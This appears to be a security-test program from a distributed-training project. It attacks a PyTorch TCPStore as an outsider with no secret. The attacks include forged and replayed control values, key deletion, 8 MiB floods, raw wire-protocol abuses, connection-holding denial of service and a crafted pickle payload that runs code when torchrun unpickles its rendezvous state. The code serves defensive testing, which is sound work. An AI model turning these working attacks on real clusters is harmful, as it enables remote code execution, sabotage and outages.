"""An outsider attacking a job's TCPStore: a plain ``torch.distributed.TCPStore`` client that holds no secret.

It is the attacker of docs/security.md's threat model: anything that can open a TCP connection to an agent (or worker)
port can list, read, write and delete every key, replay old values and send 8 MiB values as fast as the network
allows. It knows nothing of disttrain's defences (it imports nothing of disttrain): it only derives the job's key
names from what ``list_keys()`` shows and from the public key names of the control channel. Each attack runs in a
bounded loop for ``--seconds`` against the one address it is given, and writes a JSON report of what it did::

    python tests/security/outsider.py 127.0.0.1:29400 forge --seconds 10 --report /tmp/forge.json
    python tests/security/outsider.py 127.0.0.1:29400 pickle --marker /tmp/pwned --report /tmp/pickle.json
    python tests/security/outsider.py 127.0.0.1:29400 replay,beacons,pulse --sniffed /tmp/sniffed.json

``--marker`` names the file the crafted pickles create when anyone unpickles them: if it exists afterwards, the
attacker's code ran. ``--sniffed`` names what a stranger who watches the pod network knows without any secret
(store values are signed, not encrypted): key names with the values that went by (base64), and the agent's pulse
address; the ``replay``, ``beacons`` and ``pulse`` attacks use it. The security test tier
(``tests/security/test_outsider.py``) and the real-control-plane tier (run as a pod in another namespace) both drive
this program.
"""

from __future__ import annotations

import argparse
import base64
import builtins
import collections
import dataclasses
import datetime
import json
import os
import pathlib
import pickle
import resource
import signal
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any, Optional, Union

ALL = ("list", "forge", "pickle", "delete", "flood", "raw")
"""The attacks in the order ``all`` runs them: those that need nothing but the store's address."""
CLIENT_ATTACKS = ("list", "forge", "pickle", "delete", "flood")
"""The attacks of a TCPStore client (the others write on the wire themselves)."""
ATTACKS = (*ALL, "idle", "replay", "beacons", "pulse")
"""Every attack; the last three use what was sniffed (``--sniffed``)."""

CONTROL_NAMES = (
    "signal",
    "target",
    "progress",
    "checkpoint",
    "exit-first",
    "exit-last",
    "failure",
    "reliability",
    "interval",
)
"""The control channel's key names under ``disttrain/`` (api/control.py names them in public)."""
CONTROL_DIR = "disttrain/"
RENDEZVOUS_MARK = "torch.rendezvous."
BEACON_MARK = "disttrain/beacon/"
"""The ranks' step beacons (api/control.py names them in public), which the agent's stall rule reads."""
FLOOD_VALUE_BYTES = 8 * 1024 * 1024
"""The libuv TCPStore server's largest value: the most one ``set`` can make the server hold."""
MAX_GENERATION = 2**31 - 1
PERMANENT_EXIT_CODE = 85
OP_TIMEOUT = datetime.timedelta(seconds=5)
MAX_ERROR_SAMPLES = 20


@dataclasses.dataclass
class Report:
    """What the outsider did: written as JSON to ``--report`` (and printed as a one-line summary)."""

    address: str
    attack: str
    started_at: float = dataclasses.field(default_factory=time.time)
    seconds: float = 0.0
    ops: collections.Counter[str] = dataclasses.field(default_factory=collections.Counter)
    bytes_sent: int = 0
    keys_seen: list[str] = dataclasses.field(default_factory=list)
    prefixes: list[str] = dataclasses.field(default_factory=list)
    targets: dict[str, list[str]] = dataclasses.field(default_factory=dict)
    """Attack -> the keys it wrote or deleted (at most 200 per attack)."""
    errors: collections.Counter[str] = dataclasses.field(default_factory=collections.Counter)
    error_samples: list[str] = dataclasses.field(default_factory=list)
    phases: list[dict[str, Any]] = dataclasses.field(default_factory=list)
    """One entry per attack run: name, start and end (Unix times), ops."""

    def error(self, op: str, exc: BaseException) -> None:
        self.errors[f"{op}: {type(exc).__name__}"] += 1
        if len(self.error_samples) < MAX_ERROR_SAMPLES:
            self.error_samples.append(f"{op}: {type(exc).__name__}: {str(exc)[:300]}")

    def target(self, attack: str, key: str) -> None:
        keys = self.targets.setdefault(attack, [])
        if key not in keys and len(keys) < 200:
            keys.append(key)

    def as_json(self) -> dict[str, Any]:
        data = dataclasses.asdict(self)
        data["ops"] = dict(self.ops)
        data["errors"] = dict(self.errors)
        return data


class TimeUp(Exception):
    """The running attack's ``--seconds`` are over (raised by the next store operation)."""


class Outsider:
    """One TCPStore client connection, re-opened when the server drops it, every operation counted."""

    def __init__(self, host: str, port: int, report: Report) -> None:
        self.host = host
        self.port = port
        self.report = report
        self.deadline = float("inf")
        """time.monotonic() after which the running attack stops, even inside a round."""
        self._store: Any = None
        self._probe = f"outsider-probe-{time.time_ns()}"

    def store(self) -> Any:
        if self._store is None:
            from torch.distributed import TCPStore  # imported late: --help works without torch

            self._store = TCPStore(self.host, self.port, is_master=False, timeout=OP_TIMEOUT, wait_for_workers=False)
            self.report.ops["connect"] += 1
        return self._store

    def call(self, op: str, *args: Any) -> Any:
        """``store.<op>(*args)``; None (and the error counted) when it fails; a failed connection is reopened."""
        if time.monotonic() >= self.deadline:
            raise TimeUp(op)
        try:
            result = getattr(self.store(), op)(*args)
        except Exception as exc:  # noqa: BLE001 - an attacker counts every failure and carries on
            self.report.error(op, exc)
            if isinstance(exc, (ConnectionError, OSError)) or "onnect" in str(exc) or "roken pipe" in str(exc):
                self._store = None
                time.sleep(0.05)
            return None
        self.report.ops[op] += 1
        return result

    def list_keys(self) -> list[str]:
        keys = self.call("list_keys")
        found = sorted(str(k) for k in keys) if keys else []
        for key in found:
            if key not in self.report.keys_seen and len(self.report.keys_seen) < 1000:
                self.report.keys_seen.append(key)
        return found

    def get(self, key: str) -> Optional[bytes]:
        """The value of ``key``, or None when absent, in one round trip that never blocks: ``compare_set`` with a
        probe no value equals returns the current value, or the probe when the key is absent (``get`` would wait
        for a key deleted since the listing until the store timeout)."""
        value = self.call("compare_set", key, self._probe, self._probe)
        if value is None:
            return None
        value = bytes(value)
        return None if value == self._probe.encode() else value

    def set(self, key: str, value: Union[str, bytes]) -> None:
        self.call("set", key, value)
        self.report.bytes_sent += len(key) + len(value)

    def compare_set(self, key: str, expected: Union[str, bytes], value: Union[str, bytes]) -> None:
        self.call("compare_set", key, expected, value)
        self.report.bytes_sent += len(key) + len(expected) + len(value)

    def delete(self, key: str) -> None:
        self.call("delete_key", key)


def prefixes_of(keys: list[str]) -> list[str]:
    """The key prefixes the job uses, read off the listing: whatever precedes ``disttrain/`` or
    ``torch.rendezvous.`` in a key ("" included: a job without a prefix, or torch's own keys)."""
    found: set[str] = {""}
    for key in keys:
        for mark in (CONTROL_DIR, RENDEZVOUS_MARK):
            at = key.find(mark)
            if at >= 0:
                found.add(key[:at])
    return sorted(found)


def rendezvous_state_keys(outsider: Outsider, keys: list[str]) -> list[str]:
    """torchrun's rendezvous state keys: ``<prefix>torch.rendezvous.<run id>`` (no further path), plus any key whose
    value is base64 of a pickle (the C10dRendezvousBackend format) wherever it lives."""
    found = []
    for key in keys:
        tail = key.rsplit(RENDEZVOUS_MARK, 1)[-1] if RENDEZVOUS_MARK in key else None
        if tail is not None and tail and "/" not in tail:
            found.append(key)
            continue
        value = outsider.get(key)
        if value and is_base64_pickle(value):
            found.append(key)
    return found


def is_base64_pickle(value: bytes) -> bool:
    try:
        decoded = base64.b64decode(value, validate=True)
    except (ValueError, TypeError):
        return False
    return decoded[:1] == b"\x80"


def now_rfc3339() -> str:
    return datetime.datetime.now(datetime.timezone.utc).isoformat().replace("+00:00", "Z")


def forged_values(name: str, current: Optional[dict[str, Any]], job_uid: str, nodes: list[str]) -> list[str]:
    """Plausible forged JSON values for control key ``name``: built from scratch as api/control.py's models
    describe them, and (when the key has a value now) the current value with its meaning turned against the job."""
    now = time.time()
    values: list[dict[str, Any]] = []
    if name == "failure":
        values.append(
            {
                "exit_code": PERMANENT_EXIT_CODE,
                "node": nodes[0] if nodes else "outsider",
                "message": "outsider: permanent failure",
                "time": now,
            }
        )
    elif name == "signal":
        for action in ("drain", "reform"):
            values.append({"generation": MAX_GENERATION, "action": action, "reason": "outsider", "job_uid": job_uid})
    elif name == "target":
        values.append(
            {"generation": MAX_GENERATION, "nodes": 1, "exclude": nodes[1:], "lost": nodes[1:], "job_uid": job_uid}
        )
        values.append({"generation": MAX_GENERATION, "nodes": 0, "exclude": nodes, "lost": nodes, "job_uid": job_uid})
    elif name == "progress":
        values.append(
            {
                "step": 2**40,
                "samples_consumed": 2**40,
                "world_size": 1,
                "plan": {},
                "loss": 0.0,
                "restart_count": 1000,
                "run_id": "outsider",
                "process_id": "outsider",
                "time": now,
            }
        )
    elif name == "checkpoint":
        forged = dict(current or {})
        forged.update({"step": int(forged.get("step", 0)) + 1_000_000, "created_at": now_rfc3339()})
        forged.setdefault("format_version", 1)
        forged.setdefault("samples_consumed", 12_000_000)
        forged.setdefault("data_cursor", 12_000_000)
        forged.setdefault("world_size", 1)
        forged.setdefault("plan", {})
        forged.setdefault("lr_scale", 1.0)
        forged.setdefault("metadata_sha256", "0" * 64)
        forged.setdefault("files", {})
        values.append(forged)
    elif name == "reliability":
        values.append({"started_at": now - 1.0, "suspended_seconds": 0.0, "failures": 10_000})
    elif name == "interval":
        values.append(
            {"steps": 1, "save_seconds": 0.0, "step_seconds": 1.0, "mtbf_seconds": 1.0, "failures": 10_000, "time": now}
        )
    texts = [json.dumps(v) for v in values]
    if name in ("exit-first", "exit-last"):
        texts += [repr(now - 3600.0), repr(now + 3600.0)]
    return texts


def parse_json(value: Optional[bytes]) -> Optional[dict[str, Any]]:
    if not value or len(value) > 65536:
        return None
    try:
        data = json.loads(value)
    except (ValueError, UnicodeDecodeError):
        return None
    return data if isinstance(data, dict) else None


def turned(data: dict[str, Any]) -> dict[str, Any]:
    """A listed JSON value with every generation, step and count pushed to the edge of its range."""
    out: dict[str, Any] = {}
    for key, value in data.items():
        if isinstance(value, bool):
            out[key] = not value
        elif isinstance(value, int):
            out[key] = MAX_GENERATION if "generation" in key else value + 1_000_000
        elif isinstance(value, float):
            out[key] = value + 3600.0
        else:
            out[key] = value
    return out


def garbled(value: bytes) -> bytes:
    """``value`` with its middle byte changed (a tampered signature, a torn write)."""
    middle = len(value) // 2
    return value[:middle] + bytes([value[middle] ^ 0x01]) + value[middle + 1 :]


def deadline_loop(outsider: Outsider, seconds: float) -> Iterator[int]:
    """Rounds until ``seconds`` pass (at least one); past them, the next store operation raises :class:`TimeUp`."""
    end = time.monotonic() + seconds
    outsider.deadline = end + 1.0  # a round's last operation may finish; none starts a second after the end
    round_ = 0
    while True:
        yield round_
        round_ += 1
        if time.monotonic() >= end:
            return


def attack_list(outsider: Outsider, seconds: float) -> None:
    """List every key (once): the premise of the key-prefix defence is gone when this shows them."""
    del seconds
    for key in outsider.list_keys():
        print(key, flush=True)


def attack_forge(outsider: Outsider, seconds: float) -> None:
    """Write forged control values under every prefix seen, and turned copies of every listed JSON value; replay
    the values first seen (old values) too; repeat until ``seconds`` pass."""
    first: dict[str, bytes] = {}
    for round_ in deadline_loop(outsider, seconds):
        keys = outsider.list_keys()
        values: dict[str, Optional[bytes]] = {key: outsider.get(key) for key in keys if "flood" not in key}
        if round_ == 0:
            first = {k: v for k, v in values.items() if v is not None and len(v) <= 65536}
        job_uid = ""
        nodes: list[str] = []
        for value in values.values():
            data = parse_json(value)
            if data:
                job_uid = job_uid or str(data.get("job_uid") or "")
                nodes += [n for n in data.get("exclude", []) + data.get("lost", []) if isinstance(n, str)]
                if isinstance(data.get("node"), str) and data["node"]:
                    nodes.append(data["node"])
        nodes = sorted(set(nodes)) or ["node-0", "node-1"]
        for key, value in values.items():
            data = parse_json(value)
            if data is not None:
                outsider.set(key, json.dumps(turned(data)))
                outsider.report.target("forge", key)
            elif value and round_ % 2 == 0:  # not JSON (sealed, base64, text): flip one byte in the middle
                outsider.set(key, garbled(value))
                outsider.report.target("forge", key)
                outsider.report.ops["garble"] += 1
        for prefix in prefixes_of(keys):  # last, so the hostile value is the one that stays
            for name in CONTROL_NAMES:
                key = prefix + CONTROL_DIR + name
                for text in forged_values(name, parse_json(values.get(key)), job_uid, nodes):
                    outsider.set(key, text)
                    outsider.report.target("forge", key)
        if round_ % 2 == 1:  # replay what was there when the attack began
            for key, value in first.items():
                outsider.set(key, value)
                outsider.report.ops["replay"] += 1
        time.sleep(0.05)


class _CreatesMarker:
    """Unpickling this calls ``open(marker, "a")``: the file appearing proves the job ran the attacker's code."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[str, str]]:
        return (builtins.open, (self.marker, "a"))


def pickle_payloads(marker: str) -> list[bytes]:
    """The crafted pickle as torch's C10dRendezvousBackend stores its state (base64 text of the pickle, with
    protocol 2 and the newest protocol) and raw (for any reader that skips the base64)."""
    raws = [pickle.dumps(_CreatesMarker(marker), protocol=2), pickle.dumps(_CreatesMarker(marker))]
    return [base64.b64encode(raw) for raw in raws] + raws


def attack_pickle(outsider: Outsider, seconds: float, marker: str) -> None:
    """Overwrite torchrun's rendezvous state with the file-creating pickle, by ``set`` and by ``compare_set``
    against the current value (what torchrun's own writer does), until ``seconds`` pass."""
    payloads = pickle_payloads(marker)
    for round_ in deadline_loop(outsider, seconds):
        keys = outsider.list_keys()
        state_keys = rendezvous_state_keys(outsider, keys)
        for prefix in prefixes_of(keys):
            run_ids = {k.rsplit(RENDEZVOUS_MARK, 1)[1].split("/", 1)[0] for k in keys if RENDEZVOUS_MARK in k}
            state_keys += [prefix + RENDEZVOUS_MARK + run_id for run_id in run_ids if run_id]
        payload = payloads[round_ % len(payloads)]
        for key in sorted(set(state_keys)):
            current = outsider.get(key)
            if current is not None and round_ % 2 == 0:
                outsider.compare_set(key, current, payload)
            else:
                outsider.set(key, payload)
            outsider.report.target("pickle", key)
        time.sleep(0.05)


def attack_delete(outsider: Outsider, seconds: float) -> None:
    """Delete every listed key, again and again, until ``seconds`` pass."""
    for _ in deadline_loop(outsider, seconds):
        for key in outsider.list_keys():
            outsider.delete(key)
            outsider.report.target("delete", key)
        time.sleep(0.02)


def attack_flood(outsider: Outsider, seconds: float, max_bytes: int) -> None:
    """Set 8 MiB values under fresh keys, and under the job's own key names (every prefix seen), as fast as the
    server takes them, until ``seconds`` pass or ``max_bytes`` were sent."""
    big = b"\xa5" * FLOOD_VALUE_BYTES
    keys = outsider.list_keys()
    own = [prefix + CONTROL_DIR + name for prefix in prefixes_of(keys) for name in CONTROL_NAMES]
    own += [k for k in keys if RENDEZVOUS_MARK in k]
    count = 0
    start = outsider.report.bytes_sent
    for round_ in deadline_loop(outsider, seconds):
        if outsider.report.bytes_sent - start >= max_bytes:
            outsider.report.ops["flood_capped"] += 1
            return
        if round_ % 8 == 7 and own:
            key = own[(round_ // 8) % len(own)]
        else:
            key = f"outsider/flood/{time.time_ns()}/{count}"
            count += 1
        outsider.set(key, big)
        outsider.report.target("flood", key if not key.startswith("outsider/flood/") else "outsider/flood/*")


def _u64(value: int) -> bytes:
    return struct.pack("<Q", value)


def _wire_set(key: bytes, size: int) -> bytes:
    """A TCPStore ``set`` header announcing a ``size``-byte value (torch's wire: command 1, u64-sized key)."""
    return b"\x01" + _u64(len(key)) + key + _u64(size)


VALIDATE = b"\x00" + struct.pack("<I", 0x3C85F7CE)
"""What torch's client sends first on every connection (command 0, its magic number): torch's server takes no
other request before it."""


def _wire_key(key: str) -> bytes:
    """``key`` as torch's client names it on the wire (it puts a ``/`` before every key a caller gives)."""
    return b"/" + key.encode()


def _wire_set_value(key: str, value: bytes) -> bytes:
    """A whole TCPStore ``set`` of ``value`` under ``key``, as torch's client sends it."""
    return _wire_set(_wire_key(key), len(value)) + value


def _wire_delete(key: str) -> bytes:
    """A TCPStore ``delete_key`` (command 8) of ``key``, as torch's client sends it."""
    wire = _wire_key(key)
    return b"\x08" + _u64(len(wire)) + wire


RAW_REQUESTS = {
    # what each row of the table sent, as torch's client would have (queue_push 14, append 9, get 3)
    "queue": lambda: b"".join(
        b"\x0e" + _u64(1) + b"q" + _u64(FLOOD_VALUE_BYTES) + bytes(FLOOD_VALUE_BYTES) for _ in range(2)
    ),
    "pipelined-get": lambda: b"".join(b"\x03" + _u64(1) + b"k" for _ in range(48)),
    "half-sent": lambda: _wire_set(b"h", FLOOD_VALUE_BYTES) + bytes(FLOOD_VALUE_BYTES - 1),
    "key-names": lambda: b"".join(_wire_set(os.urandom(4095).hex().encode()[:8191], 0) for _ in range(64)),
    "append": lambda: b"\x09" + _u64(1) + b"a" + _u64(FLOOD_VALUE_BYTES) + bytes(FLOOD_VALUE_BYTES),
}


def attack_raw(outsider: Outsider, seconds: float, hold: int, names: tuple[str, ...] = tuple(RAW_REQUESTS)) -> None:
    """Without a TCPStore client: hold ``hold`` idle connections to the port, and meanwhile send each abuse of the
    table named in ``names`` raw, on fresh connections, without reading (what a stranger does to torch's server).
    Counts how many bytes went out before the port closed each connection."""
    held: list[socket.socket] = []
    for _ in range(hold):
        try:
            held.append(socket.create_connection((outsider.host, outsider.port), timeout=2))
            outsider.report.ops["held"] += 1
        except OSError as exc:
            outsider.report.error("hold", exc)
    payloads = {name: RAW_REQUESTS[name]() for name in names}
    for _ in deadline_loop(outsider, seconds):
        for name, payload in payloads.items():
            raw_send(outsider, name, payload)
        if not payloads:
            time.sleep(0.1)
    outsider.report.ops["held_at_end"] = sum(1 for sock in held if _still_open(sock))
    for sock in held:
        sock.close()


def raw_send(outsider: Outsider, name: str, payload: bytes) -> None:
    """Send ``payload`` on a fresh connection to the store port, after the validation torch's client sends, without
    reading, then read until the port closes it: ops ``name`` (sent) and ``name-closed`` (closed by the other
    side)."""
    try:
        sock = socket.create_connection((outsider.host, outsider.port), timeout=2)
    except OSError as exc:
        outsider.report.error(name, exc)
        return
    try:
        head = VALIDATE + payload[:65536]  # no copy of an 8 MiB payload
        sent = sock.send(head)
        outsider.report.bytes_sent += sent
        outsider.report.ops[name] += 1
        if sent == len(head) and len(payload) > 65536:  # the rest, as much as the port takes without a pause
            outsider.report.bytes_sent += sock.send(memoryview(payload)[65536 : 4 * 1024 * 1024])
        sock.settimeout(3.0)
        while sock.recv(65536):  # the greeting, then the close
            pass
        outsider.report.ops[f"{name}-closed"] += 1
    except OSError as exc:
        outsider.report.ops[f"{name}-closed"] += isinstance(exc, (ConnectionResetError, BrokenPipeError))
        outsider.report.error(name, exc)
    finally:
        sock.close()


@dataclasses.dataclass
class Sniffed:
    """What a stranger watching the pod network saw go by: store keys with their (signed, not encrypted) values,
    and where the agent's pulse is served."""

    values: dict[str, bytes]
    pulse: Optional[tuple[str, int]] = None

    @classmethod
    def load(cls, path: Optional[str]) -> Sniffed:
        if not path:
            return cls({})
        data = json.loads(pathlib.Path(path).read_text())
        values = {str(k): base64.b64decode(v) for k, v in (data.get("values") or {}).items()}
        pulse = None
        if data.get("pulse"):
            host, _, port = str(data["pulse"]).rpartition(":")
            pulse = (host.strip("[]"), int(port))
        return cls(values, pulse)


def attack_replay(outsider: Outsider, seconds: float, sniffed: Sniffed) -> None:
    """Write back every sniffed value, genuine and validly signed when it went by (an older directive while a
    reform is in flight), on the wire as torch's client sends a ``set``, until ``seconds`` pass. (A TCPStore client
    would spend seconds on each connection the front refuses at its first ping: the client attacks show that.)"""
    keys = sorted(k for k in sniffed.values if BEACON_MARK not in k)
    for _ in deadline_loop(outsider, seconds):
        for key in keys:
            raw_send(outsider, "replay-raw", _wire_set_value(key, sniffed.values[key]))
            outsider.report.target("replay", key)
            outsider.report.ops["replay"] += 1
        time.sleep(0.02)


def attack_beacons(outsider: Outsider, seconds: float, sniffed: Sniffed) -> None:
    """Garble, delete and replay the ranks' sniffed step beacons (what left a healthy rank behind its peers in the
    stall rule's eyes), on the wire as torch's client sends them, until ``seconds`` pass."""
    keys = sorted(k for k in sniffed.values if BEACON_MARK in k)
    for round_ in deadline_loop(outsider, seconds):
        for key in keys:
            value = sniffed.values[key]
            if round_ % 3 == 0:
                raw_send(outsider, "beacons-raw", _wire_set_value(key, garbled(value)))
            elif round_ % 3 == 1:
                raw_send(outsider, "beacons-raw", _wire_delete(key))
            else:
                raw_send(outsider, "beacons-raw", _wire_set_value(key, value))
            outsider.report.target("beacons", key)
            outsider.report.ops["beacons"] += 1
        time.sleep(0.02)


class Holder(threading.Thread):
    """Holds ``count`` connections to ``address``, from ``sources`` source addresses on a loopback target
    (``127.0.x.y``, as many strangers would), opening new ones as fast as old ones are closed, until stopped. On the
    pulse port it is what kept the operator from linking again after its link broke; on the store port, what kept
    replacement workers out. It opens at most ``RATE`` connections a second: enough to take every place a closed
    one leaves (unproven ones are closed after seconds), while its own CPU, on a test machine shared with the job,
    does not starve the job. Counts what it opened and how many the other side closed."""

    SOURCES = 16
    RATE = 100
    PERIOD_S = 0.05

    def __init__(self, name: str, address: tuple[str, int], count: int) -> None:
        super().__init__(name=f"{name}-holder", daemon=True)
        self.address = address
        self.count = count
        self.stop_event = threading.Event()
        self.counts: collections.Counter[str] = collections.Counter()
        self.most_held = 0

    def _source(self, n: int) -> Optional[str]:
        if not self.address[0].startswith("127."):
            return None
        return f"127.0.{2 + n // 250}.{n % 250 + 1}"

    def run(self) -> None:
        held: list[socket.socket] = []
        n = 0
        while not self.stop_event.is_set():
            open_now = [sock for sock in held if _still_open(sock)]
            self.counts["closed"] += len(held) - len(open_now)
            for sock in held:
                if sock not in open_now:
                    sock.close()
            held = open_now
            budget = int(self.RATE * self.PERIOD_S)
            while len(held) < self.count and budget > 0 and not self.stop_event.is_set():
                budget -= 1
                sock = socket.socket()
                sock.settimeout(1.0)
                source = self._source(n % self.SOURCES)
                n += 1
                try:
                    if source:
                        sock.bind((source, 0))
                    sock.connect(self.address)
                except OSError:
                    self.counts["refused"] += 1
                    sock.close()
                    break
                held.append(sock)
                self.counts["opened"] += 1
            self.most_held = max(self.most_held, len(held))
            self.stop_event.wait(self.PERIOD_S)
        for sock in held:
            sock.close()

    def stop(self) -> None:
        self.stop_event.set()
        self.join(timeout=10)


def _still_open(sock: socket.socket) -> bool:
    """Whether the other side has not closed ``sock`` (what it sent before, the greeting, is read and dropped)."""
    sock.setblocking(False)
    try:
        while sock.recv(65536):
            pass
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False


@dataclasses.dataclass(frozen=True)
class Plan:
    """How the attacks go, beside which ones."""

    seconds: float
    marker: str
    max_bytes: int
    sniffed: Sniffed
    raw: tuple[str, ...] = tuple(RAW_REQUESTS)
    """The abuses the ``raw`` attack sends."""
    hold: int = 1000
    """The idle connections the ``raw`` and ``idle`` attacks hold."""
    hold_until: str = ""
    """A file: ``pulse`` and ``idle`` go on holding after the other attacks until it exists."""


HOLD_UNTIL_MAX_S = 180.0
"""The longest the holders wait for ``--hold-until`` after the other attacks."""


def run(outsider: Outsider, attack: str, plan: Plan) -> None:
    """The attacks one after the other, each for ``plan.seconds``; meanwhile ``pulse`` holds the pulse port and
    ``idle`` holds ``plan.hold`` connections to the store port (for ``seconds`` when they are the only ones; until
    ``plan.hold_until`` exists when it is given)."""
    attacks = ALL if attack == "all" else tuple(attack.split(","))
    holders: dict[str, Holder] = {}
    if "pulse" in attacks and plan.sniffed.pulse is not None:
        holders["pulse"] = Holder("pulse", plan.sniffed.pulse, 128)
    if "idle" in attacks:
        holders["idle"] = Holder("idle", (outsider.host, outsider.port), plan.hold)
    phases = {}
    for name, holder in holders.items():
        holder.start()
        phases[name] = {"attack": name, "start": time.time(), "end": 0.0, "ops": 0}
        outsider.report.phases.append(phases[name])
    attacks = tuple(name for name in attacks if name not in holders) or ("hold",)
    try:
        _run_in_turn(outsider, attacks, plan)
        if holders and plan.hold_until:
            until = time.monotonic() + HOLD_UNTIL_MAX_S
            while not os.path.exists(plan.hold_until) and time.monotonic() < until:
                time.sleep(0.1)
    finally:
        for name, holder in holders.items():
            holder.stop()
            outsider.report.ops.update({f"{name}-{k}": v for k, v in holder.counts.items()})
            outsider.report.ops[f"{name}-most-held"] = holder.most_held
            phases[name].update(end=time.time(), ops=holder.counts["opened"])


def _run_in_turn(outsider: Outsider, attacks: tuple[str, ...], plan: Plan) -> None:
    seconds, sniffed = plan.seconds, plan.sniffed
    for name in attacks:
        ops_before = sum(outsider.report.ops.values())
        started = time.time()
        try:
            if name == "list":
                attack_list(outsider, seconds)
            elif name == "forge":
                attack_forge(outsider, seconds)
            elif name == "pickle":
                attack_pickle(outsider, seconds, plan.marker)
            elif name == "delete":
                attack_delete(outsider, seconds)
            elif name == "raw":
                attack_raw(outsider, seconds, plan.hold, plan.raw)
            elif name == "replay":
                attack_replay(outsider, seconds, sniffed)
            elif name == "beacons":
                attack_beacons(outsider, seconds, sniffed)
            elif name == "hold":  # the pulse holder alone
                time.sleep(seconds)
            else:
                attack_flood(outsider, seconds, plan.max_bytes)
        except TimeUp:
            outsider.report.ops["time_up"] += 1
        finally:
            outsider.deadline = float("inf")
        outsider.report.phases.append(
            {
                "attack": name,
                "start": started,
                "end": time.time(),
                "ops": sum(outsider.report.ops.values()) - ops_before,
            }
        )


def parse_args(argv: Optional[list[str]] = None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n", 1)[0])
    parser.add_argument(
        "address", help="HOST:PORT of the store (the job agent's, or a worker's); '-': read it from --go-file"
    )
    parser.add_argument("attack", help=f"one of {', '.join(ATTACKS)}, several joined by commas, or all")
    parser.add_argument("--seconds", type=float, default=10.0, help="how long each attack repeats (default 10)")
    parser.add_argument(
        "--marker",
        default="/tmp/disttrain-outsider-marker",
        help="file the crafted pickles create when unpickled (default %(default)s)",
    )
    parser.add_argument("--report", help="write the JSON report here")
    parser.add_argument(
        "--raw",
        default=",".join(RAW_REQUESTS),
        help="the abuses the raw attack sends, joined by commas, or 'none' (default: all of %(default)s)",
    )
    parser.add_argument(
        "--hold", type=int, default=1000, help="idle connections the raw and idle attacks hold (default 1000)"
    )
    parser.add_argument(
        "--hold-until",
        help="a file: the pulse and idle attacks go on holding after the others until it exists (at most 180 s)",
    )
    parser.add_argument(
        "--sniffed",
        help="JSON of what was seen on the network: {'values': {key: base64 value}, 'pulse': 'HOST:PORT'}, read "
        "when the attack starts (replay, beacons and pulse use it)",
    )
    parser.add_argument(
        "--go-file",
        help="import torch, then wait until this file exists and attack the HOST:PORT it holds when the address is "
        "'-' (a test starts the outsider before the job, so that importing torch on a loaded machine neither delays "
        "the attack past the moment it asks for nor loads the machine while the job starts)",
    )
    parser.add_argument(
        "--max-flood-mb",
        type=float,
        default=1e9,
        help="stop the flood after sending this many MiB (a safety cap for hosts without limits)",
    )
    args = parser.parse_args(argv)
    unknown = [a for a in args.attack.split(",") if a not in ATTACKS] if args.attack != "all" else []
    if unknown:
        parser.error(f"attack={args.attack!r}: {', '.join(unknown)} not among {', '.join(ATTACKS)} (or all)")
    args.raw = () if args.raw == "none" else tuple(args.raw.split(","))
    wrong = [name for name in args.raw if name not in RAW_REQUESTS]
    if wrong:
        parser.error(f"--raw={','.join(args.raw)}: {', '.join(wrong)} not among {', '.join(RAW_REQUESTS)} (or none)")
    if not 0 <= args.hold <= 10_000:
        parser.error(f"--hold={args.hold} is not between 0 and 10000")
    sniffing = [a for a in args.attack.split(",") if a in ("replay", "beacons", "pulse")]
    if sniffing and not args.sniffed:
        parser.error(f"attack={args.attack!r}: {', '.join(sniffing)} need --sniffed (what the outsider saw)")
    if args.address == "-":
        if not args.go_file:
            parser.error("address='-' (read from the go file) needs --go-file")
        return args
    host, sep, port = args.address.rpartition(":")
    if not sep or not host or not port.isdigit() or not 0 < int(port) < 65536:
        parser.error(f"address={args.address!r} is not HOST:PORT with a port in 1..65535")
    if not 0 <= args.seconds <= 3600:
        parser.error(f"--seconds={args.seconds} is not between 0 and 3600")
    args.host, args.port = host.strip("[]"), int(port)
    return args


def _exit_on_sigterm(signum: int, frame: Any) -> None:
    raise SystemExit(128 + signum)


def main(argv: Optional[list[str]] = None) -> int:
    args = parse_args(argv)
    signal.signal(signal.SIGTERM, _exit_on_sigterm)  # the report is still written
    if args.go_file:
        import torch.distributed  # noqa: F401 - the slow part, done before the go

        pathlib.Path(args.go_file + ".ready").touch()  # the test starts the job now
        while not os.path.exists(args.go_file):
            time.sleep(0.05)
        if args.address == "-":
            args.address = pathlib.Path(args.go_file).read_text().strip()
            host, _, port = args.address.rpartition(":")
            args.host, args.port = host.strip("[]"), int(port)
    report = Report(address=args.address, attack=args.attack)
    outsider = Outsider(args.host, args.port, report)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(max(soft, 4096), hard), hard))  # the raw attack holds 1,000
    report.started_at = time.time()
    start = time.monotonic()
    try:  # the report is written whatever ends the attack (SIGTERM included), the first connection too
        if args.attack == "all" or set(args.attack.split(",")) & set(CLIENT_ATTACKS):
            outsider.call("check", ["outsider/connect"])  # connect before the clock starts
            report.started_at, start = time.time(), time.monotonic()
        max_bytes = int(args.max_flood_mb * 1024 * 1024)
        sniffed = Sniffed.load(args.sniffed)
        plan = Plan(args.seconds, args.marker, max_bytes, sniffed, args.raw, args.hold, args.hold_until or "")
        run(outsider, args.attack, plan)
    finally:
        report.seconds = round(time.monotonic() - start, 3)
        report.prefixes = prefixes_of(report.keys_seen)
        if args.report:
            with open(args.report, "w", encoding="utf-8") as handle:
                json.dump(report.as_json(), handle, indent=1)
        print(
            f"outsider {args.attack} on {args.address}: {sum(report.ops.values())} ops, "
            f"{report.bytes_sent / 2**20:.1f} MiB sent, {len(report.keys_seen)} keys seen, "
            f"{sum(report.errors.values())} errors in {report.seconds:.1f} s",
            file=sys.stderr,
            flush=True,
        )
    return 0


if __name__ == "__main__":
    sys.exit(main())
